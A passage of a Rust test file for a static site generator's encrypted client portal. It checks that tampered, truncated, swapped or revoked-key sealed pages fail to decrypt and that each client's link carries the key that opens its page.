    for (_, _, link) in &expected {
        assert!(listed.contains(link.as_str()), "{listed}");
    }

    // A public portal and a private internal site, no secrets here: links by id.
    let site = copy_fixture("canary");
    edit(
        &site.path().join("hundred.toml"),
        "base_url = \"https://team.canary.example/handbook/\"",
        "base_url = \"https://team.canary.example/handbook/\"\nprivate = true",
    );
    let out = hundred()
        .arg("links")
        .arg(site.path())
        .env("HUNDRED_SECRET", "")
        .env("HUNDRED_TEAM_PASSPHRASE", "")
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", said(&out));
    assert!(String::from_utf8_lossy(&out.stdout).contains("https://clients.canary.example/acme/"));
}

// ---------------------------------------------------------------------------------------------
// Tampering

#[test]
fn tampered_or_swapped_sealed_pages_do_not_open() {
    use hundred::portal_crypto::{ClientKeys, SiteSecret, OVERHEAD};
    use hundred::shell::{sealed_bytes, sealed_range};

    let site = private_site(false);
    let out = private_build(site.path()).into_temp();
    let portal = out.path().join("public/portal");
    let secret = SiteSecret::from_text(SECRET).unwrap();
    let acme = ClientKeys::derive(&secret, "acme", 1);
    let hostile = ClientKeys::derive(&secret, "hostile", 1);
    let folder = |keys: &ClientKeys| -> PathBuf { portal.join(&keys.token) };
    assert_eq!(acme.token, acme_token(site.path(), SECRET));

    let shell = fs::read(folder(&acme).join("index.html")).unwrap();
    let sealed = sealed_bytes(&shell).expect("a shell");
    let page = acme.cipher.open("index.html", &sealed).expect("opens");
    assert!(String::from_utf8_lossy(&page).contains("Acme Widgets"));

    // A flipped bit anywhere: in the nonce, the ciphertext, the tag.
    for at in [
        0,
        11,
        12,
        sealed.len() / 2,
        sealed.len() - 17,
        sealed.len() - 1,
    ] {
        let mut bad = sealed.clone();
        bad[at] ^= 0x01;
        assert!(acme.cipher.open("index.html", &bad).is_none(), "byte {at}");
    }
    // Cut short, or emptied.
    assert!(acme
        .cipher
        .open("index.html", &sealed[..sealed.len() - 1])
        .is_none());
    assert!(acme
        .cipher
        .open("index.html", &sealed[..OVERHEAD - 1])
        .is_none());
    assert!(acme.cipher.open("index.html", &[]).is_none());

    // A character of the shell's base64 changed: still base64, no longer the page.
    let range = sealed_range(&shell).unwrap();
    let mut edited = shell.clone();
    let at = range.start + 100;
    edited[at] = if edited[at] == b'A' { b'B' } else { b'A' };
    let decoded = sealed_bytes(&edited).expect("still base64");
    assert!(acme.cipher.open("index.html", &decoded).is_none());
    // Not base64 any more, or cut before its end: no sealed bytes at all, and no panic.
    let mut broken = shell.clone();
    broken[range.start + 5] = b'*';
    assert!(sealed_bytes(&broken).is_none());
    assert!(sealed_bytes(&shell[..range.start + 100]).is_none());
    assert!(sealed_bytes(&shell[..range.start - 3]).is_none());
    assert!(sealed_bytes(&fs::read(portal.join("404.html")).unwrap()).is_none());
    assert!(sealed_bytes(b"").is_none());

    // Swapped between clients, or moved to another page of the same client.
    let theirs = fs::read(folder(&hostile).join("index.html")).unwrap();
    let theirs = sealed_bytes(&theirs).unwrap();
    assert!(hostile.cipher.open("index.html", &theirs).is_some());
    assert!(acme.cipher.open("index.html", &theirs).is_none());
    assert!(hostile.cipher.open("index.html", &sealed).is_none());
    let team = sealed_bytes(&fs::read(folder(&acme).join("team/index.html")).unwrap()).unwrap();
    assert!(acme.cipher.open("team/index.html", &team).is_some());
    assert!(acme.cipher.open("index.html", &team).is_none());

    // A revoked version's key opens nothing of the new folder.
    let old = ClientKeys::derive(&secret, "acme", 2);
    assert_ne!(old.token, acme.token);
    assert!(old.cipher.open("index.html", &sealed).is_none());

    // The key the link carries is the one that opens the page.
    let all = links(site.path(), SECRET);
    let (_, _, link) = all.iter().find(|(id, ..)| id == "acme").unwrap();
    let key = link.split_once("#k=").unwrap().1;
    let key = base64::engine::general_purpose::URL_SAFE_NO_PAD
        .decode(key)
        .unwrap();
    assert_eq!(key.len(), 32);
    assert_eq!(acme.fragment(), link.split_once("#k=").unwrap().1);
}
